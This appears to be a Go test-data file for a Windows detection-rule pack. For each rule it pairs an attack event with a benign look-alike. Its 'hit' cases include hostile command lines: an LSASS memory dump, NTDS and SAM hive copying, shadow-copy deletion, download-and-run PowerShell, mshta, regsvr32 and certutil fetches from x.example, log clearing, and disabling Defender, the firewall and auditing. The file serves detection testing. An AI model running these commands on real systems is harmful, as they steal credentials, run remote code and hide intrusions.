package pack

import "github.com/assay-audit/assay/server/internal/rule"

const (
	sysmonLog  = "Microsoft-Windows-Sysmon/Operational"
	auditing   = "Microsoft-Windows-Security-Auditing"
	powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	security   = "Security"
	system     = "System"
	defender   = "Microsoft-Windows-Windows Defender/Operational"
	firewall   = "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall"
)

func opened(source, access string) *rule.FieldsEvent {
	return event(sysmonLog, "Microsoft-Windows-Sysmon", 10, "SourceImage", source, "TargetImage", `C:\Windows\System32\lsass.exe`, "GrantedAccess", access)
}

func registry(key, details string) *rule.FieldsEvent {
	return event(sysmonLog, "Microsoft-Windows-Sysmon", 13, "EventType", "SetValue", "TargetObject", key, "Details", details)
}

func asked(name string) *rule.FieldsEvent {
	return event(sysmonLog, "Microsoft-Windows-Sysmon", 22, "QueryName", name, "Image", `C:\App\app.exe`)
}

func connected(address string) *rule.FieldsEvent {
	return event(sysmonLog, "Microsoft-Windows-Sysmon", 3, "Image", `C:\Windows\System32\mshta.exe`, "DestinationIp", address, "Initiated", "true")
}

// deeds are what a rule is for, and a look-alike that it must leave alone.
type deeds struct{ hit, miss *rule.FieldsEvent }

// cases are by the rules' names.
func cases() map[string]deeds {
	return map[string]deeds{
		"security_log_cleared":           {event(security, "Microsoft-Windows-Eventlog", 1102), event(security, "Microsoft-Windows-Eventlog", 1100)},
		"system_log_cleared":             {event(system, "Microsoft-Windows-Eventlog", 104), event(system, "Other", 104)},
		"audit_removed":                  {event(security, "Microsoft-Windows-Security-Auditing", 4719, "AuditPolicyChanges", "%%8448"), event(security, "Microsoft-Windows-Security-Auditing", 4719, "AuditPolicyChanges", "%%8449, %%8451")},
		"defender_off":                   {event(defender, "Microsoft-Windows-Windows Defender", 5001), event(defender, "Microsoft-Windows-Windows Defender", 5000)},
		"malware_found":                  {event(defender, "Microsoft-Windows-Windows Defender", 1116), event(defender, "Microsoft-Windows-Windows Defender", 1117)},
		"firewall_off":                   {event(firewall, "Microsoft-Windows-Windows Firewall With Advanced Security", 2003, "SettingType", "1", "SettingValueString", "No"), event(firewall, "Microsoft-Windows-Windows Firewall With Advanced Security", 2003, "SettingType", "1", "SettingValueString", "Yes")},
		"log_cleared_by_command":         {sysmon(`C:\Windows\System32\wevtutil.exe`, "", "wevtutil cl Security"), sysmon(`C:\Windows\System32\wevtutil.exe`, "", "wevtutil qe Security")},
		"lsass_dump":                     {sysmon(`C:\Windows\System32\rundll32.exe`, "", `rundll32 C:\windows\system32\comsvcs.dll, MiniDump 640 C:\x.dmp full`), sysmon(`C:\Windows\System32\rundll32.exe`, "", "rundll32 shell32.dll")},
		"directory_copied":               {sysmon(`C:\Windows\System32\ntdsutil.exe`, "", `ntdsutil "ac i ntds" "ifm" "create full c:\x"`), sysmon(`C:\Windows\System32\ntdsutil.exe`, "", "ntdsutil files info")},
		"shadow_copies_deleted":          {sysmon(`C:\Windows\System32\vssadmin.exe`, "", "vssadmin DELETE shadows /all"), sysmon(`C:\Windows\System32\vssadmin.exe`, "", "vssadmin list shadows")},
		"encoded_powershell":             {sysmon(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "", "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA"), sysmon(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "", "powershell -File C:\\Jobs\\report.ps1 -Encoding utf8")},
		"office_starts_shell":            {sysmon(`C:\Windows\System32\cmd.exe`, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, "cmd /c x"), sysmon(`C:\Windows\System32\cmd.exe`, `C:\Windows\explorer.exe`, "cmd")},
		"certutil_download":              {sysmon(`C:\Windows\System32\certutil.exe`, "", "certutil -urlcache -f http://x.example/a.exe a.exe"), sysmon(`C:\Windows\System32\certutil.exe`, "", "certutil -urlcache")},
		"service_from_user_folder":       {event(system, "Service Control Manager", 7045, "ServiceName", "x", "ImagePath", `C:\Users\Public\x.exe`), event(system, "Service Control Manager", 7045, "ServiceName", "x", "ImagePath", `C:\Windows\System32\x.exe`)},
		"administrator_added":            {event(security, "Microsoft-Windows-Security-Auditing", 4732, "TargetSid", "S-1-5-32-544"), event(security, "Microsoft-Windows-Security-Auditing", 4732, "TargetSid", "S-1-5-32-545")},
		"failed_sign_in":                 {event(security, "Microsoft-Windows-Security-Auditing", 4625), event(security, "Microsoft-Windows-Security-Auditing", 4624)},
		"log_service_stopped":            {event(security, "Microsoft-Windows-Eventlog", 1101), event(security, "Microsoft-Windows-Eventlog", 1100)},
		"log_service_disabled":           {event(system, "Service Control Manager", 7040, "param1", "Windows Event Log", "param4", "EventLog"), event(system, "Service Control Manager", 7040, "param4", "BITS")},
		"log_service_stopped_by_command": {sysmon(`C:\Windows\System32\sc.exe`, "", "sc config eventlog start= disabled"), sysmon(`C:\Windows\System32\sc.exe`, "", "sc query eventlog")},
		"sysmon_stopped":                 {event(sysmonLog, "Microsoft-Windows-Sysmon", 4, "State", "Stopped"), event(sysmonLog, "Microsoft-Windows-Sysmon", 4, "State", "Started")},
		"sysmon_unloaded_by_command":     {sysmon(`C:\Tools\Sysmon64.exe`, "", "sysmon64 -u force"), sysmon(`C:\Tools\Sysmon64.exe`, "", "sysmon64 -c config-update.xml")},
		"audit_policy_by_command":        {sysmon(`C:\Windows\System32\auditpol.exe`, "", `auditpol /set /category:"Logon/Logoff" /success:disable`), sysmon(`C:\Windows\System32\auditpol.exe`, "", "auditpol /get /category:*")},
		"time_changed":                   {event(security, auditing, 4616, "ProcessName", `C:\Windows\System32\cmd.exe`), event(security, auditing, 4616, "ProcessName", `C:\Windows\System32\svchost.exe`)},
		"defender_exclusion":             {event(defender, "Microsoft-Windows-Windows Defender", 5007, "New Value", `HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\ = 0x0`), event(defender, "Microsoft-Windows-Windows Defender", 5007, "New Value", `HKLM\SOFTWARE\Microsoft\Windows Defender\SignatureUpdate = 1`)},
		"defender_weakened_by_command":   {sysmon(powershell, "", "powershell Set-MpPreference -DisableRealtimeMonitoring $true"), sysmon(powershell, "", "powershell Get-MpPreference")},
		"firewall_off_by_command":        {sysmon(`C:\Windows\System32\netsh.exe`, "", "netsh advfirewall set allprofiles state off"), sysmon(`C:\Windows\System32\netsh.exe`, "", "netsh advfirewall show allprofiles state")},
		"malware_not_removed":            {event(defender, "Microsoft-Windows-Windows Defender", 1119), event(defender, "Microsoft-Windows-Windows Defender", 1117)},
		"storage_inserted":               {event(security, auditing, 6416, "DeviceId", `USBSTOR\Disk&Ven_X\123`), event(security, auditing, 6416, "DeviceId", `SWD\PRINTENUM\{1}`)},
		"program_from_removable_drive":   {sysmon(`E:\setup.exe`, "", "setup"), sysmon(`D:\Apps\Editor\editor.exe`, "", "editor")},
		"lsass_opened":                   {opened(`C:\Users\ann\dump.exe`, "0x1010"), opened(`C:\Windows\System32\csrss.exe`, "0x1fffff")},
		"hive_saved":                     {sysmon(`C:\Windows\System32\reg.exe`, "", `reg save HKLM\SAM c:\x.hiv`), sysmon(`C:\Windows\System32\reg.exe`, "", `reg save HKCU\Software c:\x.hiv`)},
		"script_from_web":                {sysmon(powershell, "", "powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"), sysmon(powershell, "", "powershell Invoke-WebRequest http://x.example/a -OutFile a.zip")},
		"mshta_from_web":                 {sysmon(`C:\Windows\System32\mshta.exe`, "", "mshta http://x.example/a.hta"), sysmon(`C:\Windows\System32\mshta.exe`, "", `mshta C:\App\a.hta`)},
		"regsvr32_from_web":              {sysmon(`C:\Windows\System32\regsvr32.exe`, "", "regsvr32 /s /n /u /i:http://x.example/a.sct scrobj.dll"), sysmon(`C:\Windows\System32\regsvr32.exe`, "", `regsvr32 /s C:\App\a.dll`)},
		"rundll32_from_user_folder":      {sysmon(`C:\Windows\System32\rundll32.exe`, "", `rundll32 C:\Users\Public\a.dll,Run`), sysmon(`C:\Windows\System32\rundll32.exe`, "", "rundll32 shell32.dll,Control_RunDLL")},
		"bits_download":                  {sysmon(`C:\Windows\System32\bitsadmin.exe`, "", "bitsadmin /transfer j http://x.example/a C:\\a"), sysmon(`C:\Windows\System32\bitsadmin.exe`, "", "bitsadmin /list")},
		"remote_service_tool":            {event(system, "Service Control Manager", 7045, "ServiceName", "PSEXESVC", "ImagePath", `%SystemRoot%\PSEXESVC.exe`), event(system, "Service Control Manager", 7045, "ServiceName", "Spooler", "ImagePath", `C:\Windows\System32\spoolsv.exe`)},
		"wmi_started_program":            {sysmon(`C:\Windows\System32\cmd.exe`, `C:\Windows\System32\wbem\WmiPrvSE.exe`, "cmd /c x"), sysmon(`C:\Windows\System32\msiexec.exe`, `C:\Windows\System32\wbem\WmiPrvSE.exe`, "msiexec")},
		"winrm_started_program":          {sysmon(powershell, `C:\Windows\System32\wsmprovhost.exe`, "powershell"), sysmon(powershell, `C:\Windows\explorer.exe`, "powershell")},
		"task_from_user_folder":          {sysmon(`C:\Windows\System32\schtasks.exe`, "", `schtasks /create /tn x /tr C:\Users\Public\x.exe /sc minute`), sysmon(`C:\Windows\System32\schtasks.exe`, "", `schtasks /create /tn x /tr C:\App\x.exe /sc daily`)},
		"run_key_to_user_folder":         {registry(`HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x`, `C:\Users\Public\x.exe`), registry(`HKLM\Software\Microsoft\Windows\CurrentVersion\Run\x`, `C:\Program Files\x.exe`)},
		"debugger_of_accessibility":      {registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger`, "cmd.exe"), registry(`HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\app.exe\Debugger`, "windbg.exe")},
		"account_created":                {event(security, auditing, 4720, "TargetUserName", "x"), event(security, auditing, 4726, "TargetUserName", "x")},
		"recovery_disabled":              {sysmon(`C:\Windows\System32\bcdedit.exe`, "", "bcdedit /set {default} recoveryenabled no"), sysmon(`C:\Windows\System32\bcdedit.exe`, "", "bcdedit /enum")},
		"long_dns_name":                  {asked("aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeeeffffffffff.x.example"), asked("www.a-rather-long-name-of-a-company.example")},
		"script_host_connects":           {connected("203.0.113.9"), connected("10.1.2.3")},
	}
}
